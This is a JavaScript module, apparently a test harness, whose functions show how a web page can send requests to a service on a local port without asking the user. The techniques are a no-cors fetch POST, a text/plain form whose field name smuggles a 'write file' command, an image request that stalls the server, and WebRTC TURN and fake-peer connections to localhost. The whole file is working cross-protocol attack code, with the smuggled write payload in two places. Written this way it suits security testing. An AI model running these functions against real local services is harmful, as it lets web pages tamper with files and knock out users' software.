// What a web page can send to a port of this machine without asking anybody. Each function runs in
// the page.

/** A POST without a preflight; its body holds a whole request. */
export async function fetchAttack({port, file}) {
  const body = `\x01write\n${file}\nattacked\x01`;
  const options = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body};
  await fetch(`http://127.0.0.1:${port}/`, options).catch(() => {});
}

/** A form that is sent as text: "name=value", with the request in the name. */
export function formAttack({port, file}) {
  const form = document.createElement("form");
  const frame = document.createElement("iframe");
  const field = document.createElement("textarea");
  frame.name = "reply";
  Object.assign(form, {method: "POST", enctype: "text/plain", target: "reply", action: `http://127.0.0.1:${port}/`});
  field.name = `\x01write\n${file}\nattacked`;
  field.value = "\x01";
  form.append(field);
  document.body.append(frame, form);
  form.submit();
}

/** A picture: it can only hold the server, which waits for the end of a request that never comes. */
export function imageAttack({port}) {
  const image = document.createElement("img");
  image.src = `http://127.0.0.1:${port}/picture`;
  document.body.append(image);
}

/** Names a relay for calls: the browser speaks STUN to it. */
export async function relayAttack({port}) {
  const urls = `turn:127.0.0.1:${port}?transport=tcp`;
  const call = new RTCPeerConnection({iceServers: [{urls, username: "any", credential: "any"}]});
  call.createDataChannel("any");
  await call.setLocalDescription(await call.createOffer());
}

/**
 * Pretends that another browser waits at the port: this one speaks STUN to it, behind the length of
 * each message, and with the protocol "ssltcp" behind a greeting in the form of SSL 2.
 */
export async function peerAttack({port, protocol = "tcp"}) {
  const [call, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
  call.createDataChannel("any");
  await call.setLocalDescription(await call.createOffer());
  await other.setRemoteDescription(call.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  const sdp = other.localDescription.sdp.replace(/a=candidate.*\r\n/g, "");
  await call.setRemoteDescription({type: "answer", sdp});
  const candidate = `candidate:1 1 ${protocol} 2105458943 127.0.0.1 ${port} typ host tcptype passive`;
  await call.addIceCandidate({candidate, sdpMid: "0", sdpMLineIndex: 0});
}

/** Has the browser open a connection that it does not use. */
export function preconnectAttack({port}) {
  document.head.insertAdjacentHTML("beforeend", `<link rel="preconnect" href="http://localhost:${port}/">`);
}
